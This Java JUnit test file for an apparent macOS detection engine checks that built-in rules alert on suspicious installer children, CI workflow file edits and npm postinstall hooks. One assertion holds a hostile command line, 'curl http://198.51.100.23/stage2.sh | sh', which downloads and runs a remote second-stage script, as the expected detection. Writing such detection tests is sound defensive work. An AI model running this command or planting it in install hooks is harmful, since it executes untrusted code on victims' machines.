package dev.hookline.macos.es;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.hookline.alert.Alert;
import dev.hookline.rules.Detector;
import dev.hookline.rules.RuleLoader;
import dev.hookline.rules.Tuning;
import dev.hookline.schema.Columns;
import dev.hookline.schema.Event;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/** The macOS-relevant arms of the seed rules, fed eslogger sequences through the mapper and the real Detector. */
class SeedRulesFireOnMacOsSequencesTest {

    private static List<Alert> detect(String fixture) throws Exception {
        EsEventMapperTest.Run r = new EsEventMapperTest.Run(-1).feed(fixture);
        List<Alert> alerts = new ArrayList<>();
        Detector d = new Detector(new RuleLoader().loadBuiltin(), Tuning.NONE, alerts::add);
        long last = r.rec.events.stream().mapToLong(e -> e.getLong(Columns.TIMESTAMP)).max().orElseThrow();
        for (Event e : r.rec.events) {
            d.accept(e, last + 1_000_000_000L);
        }
        return alerts;
    }

    private static Object col(Alert a, String name) {
        int i = a.columns().indexOf(name);
        return i < 0 ? null : a.row()[i];
    }

    @Test
    void installerRunningShWithCurlIsAnInstallerChildProcess() throws Exception {
        List<Alert> alerts = detect("macos13-v6-object-token.jsonl");
        List<Alert> child = alerts.stream().filter(a -> "INSTALLER_CHILD_PROCESS".equals(col(a, "EventType")))
                .collect(Collectors.toList());
        assertEquals(1, child.size(), alerts.toString());
        Alert a = child.get(0);
        assertEquals("sh", col(a, "FileName"));
        assertEquals("installer", col(a, "InitiatingProcessFileName"));
        assertEquals(Boolean.TRUE, col(a, "SuspiciousCommand"));
        assertEquals("root", col(a, "AccountName"));
    }

    @Test
    void workflowFileCreatedUnderARepoIsACicdPipelineEdit() throws Exception {
        for (String f : Fixtures.VERSIONED) {
            List<Alert> cicd = detect(f).stream()
                    .filter(a -> "CICDPipelineFileModified".equals(col(a, "DetectionArm"))).collect(Collectors.toList());
            assertEquals(1, cicd.size(), f);
            assertEquals("ci.yml", col(cicd.get(0), "FileName"));
            assertEquals("FileCreated", col(cicd.get(0), "ActionType"));
            assertEquals("sh", col(cicd.get(0), "InitiatingProcessFileName"));
        }
    }

    @Test
    void npmPostinstallSpawningShWithCurlIsASuspiciousPackageManagerChild() throws Exception {
        List<Alert> alerts = detect("npm-postinstall-v8.jsonl");
        List<Alert> hook = alerts.stream()
                .filter(a -> "PackageManagerSpawnedSuspiciousChild".equals(col(a, "DetectionArm")))
                .collect(Collectors.toList());
        assertEquals(1, hook.size(), "sh from node fires; curl from sh does not (sh is no package manager): " + alerts);
        Alert a = hook.get(0);
        assertEquals("sh", col(a, "FileName"));
        assertEquals("node", col(a, "InitiatingProcessFileName"));
        assertEquals("sh -c \"curl http://198.51.100.23/stage2.sh | sh\"", col(a, "ProcessCommandLine"));
        assertEquals("/opt/homebrew/Cellar/node/22.1.0/bin/node", col(a, "InitiatingProcessFolderPath"));
        assertTrue(String.valueOf(col(a, "InitiatingProcessCommandLine")).contains("npm install evil-pkg"));
    }
}
